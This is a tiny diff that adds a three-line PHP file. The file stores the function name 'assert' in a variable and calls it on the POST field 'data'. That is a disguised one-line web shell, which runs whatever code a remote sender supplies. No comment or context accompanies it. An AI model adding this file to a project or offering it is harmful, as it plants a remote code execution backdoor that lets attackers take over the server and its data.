@@ -1,0 +1,3 @@
+<?php
+$fn = 'assert';
+$fn($_POST['data']);
